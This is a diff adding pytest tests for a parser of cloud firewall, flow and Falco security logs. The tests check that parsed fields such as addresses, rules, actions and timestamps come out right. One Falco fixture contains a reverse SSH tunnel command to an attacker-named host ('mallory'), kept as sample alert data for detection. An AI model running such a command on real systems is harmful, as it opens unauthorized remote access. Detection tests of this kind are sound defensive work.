@@ -593,3 +593,181 @@ def test_palo_altos_records_as_leef(tmp_path: Path, line: str, zoned: bool) -> N
     assert (seen.action, seen.rule, seen.bytes_out, seen.node) == (Action.DENIED, "No way", 58, "fw-1")
     assert seen.time.zoned is zoned
     assert seen.time.start_ns == AT - 10 * SECOND + (0 if zoned else 3600 * SECOND)
+
+
+def test_a_nat_of_googles_own_is_a_map(tmp_path: Path) -> None:
+    connection = {"src_ip": "10.0.0.5", "src_port": 44318, "dest_ip": "198.51.100.7", "dest_port": 22, "protocol": 6}
+    connection |= {"nat_ip": "203.0.113.9", "nat_port": 61000}
+    payload = {"connection": connection, "allocation_status": "OK", "endpoint": {"vm_name": "node-3"}}
+    entry = {"insertId": "a", "timestamp": "2026-03-07T03:40:11.5Z", "jsonPayload": payload}
+    seen = only(tmp_path, json.dumps(entry), "gcp-vpc")
+    assert (seen.src, seen.translated_src, seen.node) == (HERE, ("203.0.113.9", 61000), "node-3")
+
+
+# ── what formats write besides, and what becomes of it on its way ─────────────────────────────────────────────
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        SAID + " k8s.ns=default k8s.pod=worker-0 container=abc",
+        SAID.replace("process=", "program=").replace("container_id=", "container="),
+        SAID.replace("terminal=0", "connection=192.0.2.1:1->192.0.2.2:2 user=nobody terminal=0"),
+    ],
+)
+def test_falcos_text_has_fields_behind_its_list_and_commands_name_some_too(tmp_path: Path, said: str) -> None:
+    seen = only(tmp_path, "2026-03-07T03:40:11.123456789+0000: " + said, "falco")
+    assert (seen.src, seen.dst, seen.rule) == (HERE, THERE, "Unexpected connection")
+    assert (seen.process.executable, seen.process.container, seen.process.user) == ("ssh", "abc", "root")
+    assert seen.process.command.startswith("ssh -fNR 2222:localhost:22 mallory@198.51.100.7 (x)")
+
+
+@pytest.mark.parametrize(
+    ("header", "clock", "day"),
+    [
+        ("2026-03-08T00:00:01Z", "23:59:59.900000000", "2026-03-07"),
+        ("2026-03-07T23:59:59Z", "00:00:00.100000000", "2026-03-08"),
+        ("2026-03-07T12:00:01Z", "11:59:59.900000000", "2026-03-07"),
+    ],
+)
+def test_a_time_of_day_at_midnight_is_of_the_day_it_was(tmp_path: Path, header: str, clock: str, day: str) -> None:
+    seen = only(tmp_path, f"{header} stdout F {clock}: {SAID}", "falco")
+    assert seen.time.start_ns == iso(f"{day}T{clock}", Semantics.PACKET).start_ns
+
+
+@pytest.mark.parametrize("named", ["proc_cmdline", "proc.cmdline"])
+def test_falcos_fields_by_stores_that_know_no_dots(tmp_path: Path, named: str) -> None:
+    fields: dict[str, object] = {named: "ssh -R", "fd": {"name": "10.0.0.5:44318->198.51.100.7:22"}, "proc_pid": 7}
+    event = {"rule": "r", "priority": "Notice", "output": "o", "time": "2026-03-07T03:40:11Z", "output_fields": fields}
+    seen = only(tmp_path, json.dumps(event), "falco")
+    assert (seen.src, seen.dst, seen.process.command, seen.process.pid) == (HERE, THERE, "ssh -R", 7)
+
+
+LOST = {"rule": "Falco internal: syscall event drop", "priority": "Debug", "time": "2026-03-07T03:40:11Z"}
+
+
+@pytest.mark.parametrize(
+    ("line", "why"),
+    [
+        (LOST | {"output": "Falco internal: 9 system calls dropped", "output_fields": {"n_drops": 9}}, "lost events"),
+        (LOST | {"rule": "Falco internal: metrics snapshot", "output": "metrics", "output_fields": {}}, ""),
+        ({"lost_events": {"source": "HUBBLE_RING_BUFFER", "num_events_lost": "5"}, "node_name": "n"}, "lost 5 events"),
+        ({"agent_event": {"type": "POLICY_UPDATED"}, "node_name": "n", "time": "2026-03-07T03:40:11Z"}, ""),
+        ({"node_status": {"state_change": "NODE_CONNECTED"}, "node_name": "n"}, ""),
+        ("2 123456789010 eni-1 - - - - - - - 1772854811 1772854869 - SKIPDATA", "left out records"),
+        ("2 123456789010 eni-1 - - - - - - - 1772854811 1772854869 - NODATA", ""),
+    ],
+)
+def test_what_was_lost_before_is_counted_and_what_is_of_no_traffic_is_not(
+    tmp_path: Path, line: dict[str, object] | str, why: str
+) -> None:
+    found, report = records(tmp_path, line if isinstance(line, str) else json.dumps(line))
+    assert found == []
+    assert report.quarantined == ({"fields": 1} if why else {})
+    assert all(why in each.detail for each in report.first)
+
+
+def test_a_transit_gateways_log_has_an_order_of_its_own(tmp_path: Path) -> None:
+    line = (
+        "6 TransitGateway 123456789010 tgw-1 tgw-attach-1 123456789010 123456789010 vpc-1 vpc-2 subnet-1 subnet-2 "
+        "eni-1 eni-2 euw1-az1 euw1-az2 tgw-attach-2 10.0.0.5 198.51.100.7 44318 22 6 1 44 1772854811 1772854869 OK "
+        "IPv4 0 0 0 0 2 eu-west-1 egress - -"
+    )
+    seen = only(tmp_path, line, "aws-vpc")
+    assert (seen.src, seen.dst, seen.proto, seen.bytes_out) == (HERE, THERE, "tcp", 44)
+    assert (seen.time.start_ns, seen.time.end_ns) == (AT, AT + 59 * SECOND)
+
+
+@pytest.mark.parametrize(
+    "before", ["2026-03-07T03:41:02.000Z ", "2026-03-07T03:41:02+00:00 eni-1-all ", "2026-03-07T03:41:02.000000Z "]
+)
+def test_cloudwatchs_own_time_before_a_flow(tmp_path: Path, before: str) -> None:
+    assert only(tmp_path, f"{before}2 {VPC}", "aws-vpc").time.start_ns == AT
+
+
+@pytest.mark.parametrize(
+    ("event", "host", "signature", "action"),
+    [
+        ({"sni": "-", "tls_error": {"error_message": "no server name"}}, "", "no server name", Action.UNKNOWN),
+        ({"sni": "pool.example", "tls_error": {"error_message": "x"}}, "pool.example", "x", Action.UNKNOWN),
+        (
+            {"sni": "pool.example", "revocation_check": {"status": "REVOKED", "action": "DROP"}},
+            "pool.example",
+            "certificate REVOKED",
+            Action.DENIED,
+        ),
+    ],
+)
+def test_the_log_of_tls_inspection_is_no_suricatas(
+    tmp_path: Path, event: dict[str, object], host: str, signature: str, action: Action
+) -> None:
+    inner = {"timestamp": "2026-03-07T03:40:11.5Z", "src_ip": "10.0.0.5", "src_port": "44318"}
+    inner |= {"dest_ip": "198.51.100.7", "dest_port": "22"}
+    line = {"firewall_name": "fw", "availability_zone": "z", "event_timestamp": 1772854811, "event": inner | event}
+    seen = only(tmp_path, json.dumps(line), "aws-firewall")
+    assert (seen.src, seen.dst, seen.proto, seen.node) == (HERE, THERE, "tcp", "fw")
+    assert (seen.host, seen.signature, seen.action) == (host, signature, action)
+
+
+CLOUD_FIREWALL = {"__topic__": "cloudfirewall_access_log", "__time__": "1772854900", "start_time": "1772854811"}
+CLOUD_FIREWALL |= {"end_time": "1772854830", "direction": "out", "ip_protocol": "tcp", "rule_result": "pass"}
+CLOUD_FIREWALL |= {"src_ip": "10.0.0.5", "src_port": "44318", "dst_ip": "198.51.100.7", "dst_port": "22"}
+POLICY = "073a1475-6e11-43e2-8b28-98cee9c60000"
+
+
+@pytest.mark.parametrize(
+    ("change", "rule", "quiet"),
+    [
+        ({"acl_rule_id": POLICY}, "", True),  # the policy by which it was let through
+        ({"acl_rule_id": POLICY, "rule_result": "alert"}, POLICY, False),
+        ({"acl_rule_id": POLICY, "rule_result": "drop"}, POLICY, False),
+        ({"ips_rule_id": POLICY, "ips_rule_name_en": "Mining behavior on the host"}, POLICY, False),
+        ({"__topic__": "cloudfirewall_ips_log", "log_type": "internet_ips_log"}, "", True),
+    ],
+)
+def test_what_of_an_alibaba_firewall_is_an_objection(
+    tmp_path: Path, change: dict[str, str], rule: str, quiet: bool
+) -> None:
+    seen = only(tmp_path, json.dumps(CLOUD_FIREWALL | change), "alibaba-firewall")
+    assert (seen.src, seen.dst, seen.rule, seen.informational) == (HERE, THERE, rule, quiet)
+
+
+def test_behind_a_public_address_stands_the_instances_own(tmp_path: Path) -> None:
+    line = CLOUD_FIREWALL | {"src_ip": "203.0.113.9", "src_private_ip": "10.0.0.5"}
+    seen = only(tmp_path, json.dumps(line), "alibaba-firewall")
+    assert (seen.src, seen.translated_src) == (HERE, ("203.0.113.9", 44318))
+    seen = only(tmp_path, json.dumps(line | {"direction": "in"}), "alibaba-firewall")
+    assert (seen.src.ip, seen.translated_src.ip) == ("203.0.113.9", None)
+    written = {key: value for key, value in CLOUD_FIREWALL.items() if not key.endswith("_time")}
+    seen = only(tmp_path, json.dumps(written | {"__time__": "2026-03-07 03:40:11"}), "alibaba-firewall")
+    assert (seen.time.start_ns, seen.time.semantics) == (AT, Semantics.INGEST)
+
+
+TUPLE = "1772854811123,10.0.0.5,198.51.100.7,44318,22,6,O,{},{},1,60,0,0"
+
+
+@pytest.mark.parametrize(
+    ("state", "encryption", "action", "semantics"),
+    [
+        ("B", "NX", Action.ALLOWED, Semantics.PACKET),
+        ("C", "X", Action.ALLOWED, Semantics.END),
+        ("E", "NX_HW_NOT_SUPPORTED", Action.ALLOWED, Semantics.END),
+        ("D", "NX", Action.DENIED, Semantics.PACKET),
+    ],
+)
+def test_states_of_a_virtual_networks_flow(
+    tmp_path: Path, state: str, encryption: str, action: Action, semantics: Semantics
+) -> None:
+    groups = [{"rule": "r", "flowTuples": [TUPLE.format(state, encryption)]}]
+    record = {"time": "x", "flowRecords": {"flows": [{"aclID": "a", "flowGroups": groups}]}}
+    seen = only(tmp_path, json.dumps({"records": [record]}), "azure-flow")
+    assert (seen.src, seen.dst, seen.action, seen.time.semantics) == (HERE, THERE, action, semantics)
+
+
+def test_each_tuple_of_a_line_has_a_place_and_a_text_of_its_own(tmp_path: Path) -> None:
+    tuples = [TUPLE.format(state, "NX") for state in "BCE"]
+    groups = [{"rule": "r", "flowTuples": tuples}]
+    line = json.dumps({"records": [{"flowRecords": {"flows": [{"flowGroups": groups}]}}]})
+    found, _ = records(tmp_path, line)
+    assert [line.encode()[each.byte_offset :][: len(each.raw)] for each in found] == [each.encode() for each in tuples]
+    assert [each.raw.decode() for each in found] == tuples
